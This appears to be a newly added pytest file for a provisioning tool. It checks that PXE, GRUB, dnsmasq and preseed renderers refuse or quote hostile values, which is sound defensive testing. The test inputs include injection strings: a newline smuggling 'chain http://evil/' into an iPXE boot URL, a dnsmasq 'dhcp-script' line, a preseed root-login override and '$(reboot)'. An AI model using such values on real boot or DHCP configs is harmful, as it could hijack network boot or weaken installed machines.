@@ -1,0 +1,108 @@
+"""Issue 13 part 2, defence in depth: each renderer escapes for its own language, or
+refuses, even when a hostile value got past validation (here: put into the validated
+model by hand, as a bug in a future check would)."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from fleet.inventory.load import load_inventory
+from fleet.inventory.model import Inventory
+from fleet.render import escape, pxe, render_all
+
+ROOT = Path(__file__).resolve().parents[2]
+SMALL = ROOT / "tests" / "fixtures" / "small.yaml"
+IMAGE = {"type": "debian-preseed", "kernel": "images/debian-12/linux",
+         "initrd": "images/debian-12/initrd.gz", "mirror": "http://deb.example/debian"}
+
+
+def _with_site(inv: Inventory, **changes: object) -> Inventory:
+    site = inv.raw.site.model_copy(update=changes)
+    return dataclasses.replace(inv, raw=inv.raw.model_copy(update={"site": site}))
+
+
+def _with_install(inv: Inventory, **changes: object) -> Inventory:
+    return _with_site(inv, install=inv.raw.site.install.model_copy(update=changes))
+
+
+@pytest.fixture(scope="module")
+def small() -> Inventory:
+    return load_inventory(SMALL)
+
+
+@pytest.fixture(scope="module")
+def debian(tmp_path_factory: pytest.TempPathFactory) -> Inventory:
+    overlay = tmp_path_factory.mktemp("ov") / "overlay.yaml"
+    overlay.write_text(json.dumps({"site": {"images": {"debian-12": IMAGE}},
+                                   "node_groups": {"part-a": {"image": "debian-12"}}}))
+    return load_inventory(SMALL, overlay)
+
+
+@pytest.mark.parametrize("kernel", ["images/vmlinuz\nboot", "images/vm linuz",
+                                    "images/${net0/ip}", "images/a'b"])
+def test_ipxe_and_grub_refuse_a_kernel_path_they_cannot_hold(small: Inventory,
+                                                             kernel: str) -> None:
+    with pytest.raises(escape.UnsafeValueError):
+        pxe.render(_with_install(small, kernel=kernel))
+
+
+def test_an_iso_url_with_a_newline_never_reaches_a_kernel_line(small: Inventory) -> None:
+    bad = _with_install(small, iso_url="http://10.1.0.10/x.iso\nchain http://evil/")
+    with pytest.raises(escape.UnsafeValueError):
+        pxe.render(bad)
+
+
+def test_a_domain_with_a_newline_never_reaches_dnsmasq(small: Inventory) -> None:
+    with pytest.raises(escape.UnsafeValueError):
+        pxe.render(_with_site(small, domain="lab.test\ndhcp-script=/tmp/x"))
+
+
+def test_a_preseed_answer_with_a_newline_is_refused(debian: Inventory) -> None:
+    with pytest.raises(escape.UnsafeValueError):
+        render_all(_with_site(debian, timezone="UTC\nd-i passwd/root-login boolean true"))
+
+
+@pytest.mark.parametrize(("word", "quoted"), [
+    ("plain=1", "plain=1"),
+    ("ds=nocloud-net;s=http://x/", "'ds=nocloud-net;s=http://x/'"),
+    ("it's", "'it'\\''s'"),
+    ("$(reboot)", "'$(reboot)'"),
+    ("a b", "'a b'"),
+])
+def test_grub_words_are_quoted_where_grub_would_split_or_expand(word: str,
+                                                                quoted: str) -> None:
+    assert escape.grub_word(word) == quoted
+
+
+def test_grub_script_check_accepts_quoted_hostile_words(tmp_path: Path) -> None:
+    check = shutil.which("grub-script-check")
+    if check is None:
+        pytest.fail("grub-script-check is missing: tools/install-host-deps.sh installs "
+                    "grub-common")
+    words = ["it's", "$(reboot)", "a;b", "{x}", "a\\b", '"q"', "#c", "a&&b"]
+    script = tmp_path / "t.cfg"
+    script.write_text("menuentry 'x " + escape.grub_title("it's; $(x)") + "' {\n"
+                      "  linux /vmlinuz " + " ".join(escape.grub_word(w) for w in words)
+                      + "\n}\n")
+    r = subprocess.run([check, str(script)], capture_output=True, text=True, check=False)
+    assert r.returncode == 0, r.stdout + r.stderr
+
+
+@pytest.mark.parametrize("word", ["a b", "${x}", "a'b", 'a"b', "a\nb", ""])
+def test_ipxe_words_refuse_what_ipxe_would_split_or_expand(word: str) -> None:
+    with pytest.raises(escape.UnsafeValueError):
+        escape.ipxe_word(word)
+
+
+def test_every_template_value_is_one_line() -> None:
+    env = pxe._env()  # the renderer's own environment
+    template = env.from_string("x={{ v }}\n")
+    assert template.render(v="ok") == "x=ok\n"
+    with pytest.raises(escape.UnsafeValueError):
+        template.render(v="ok\nmore=1")
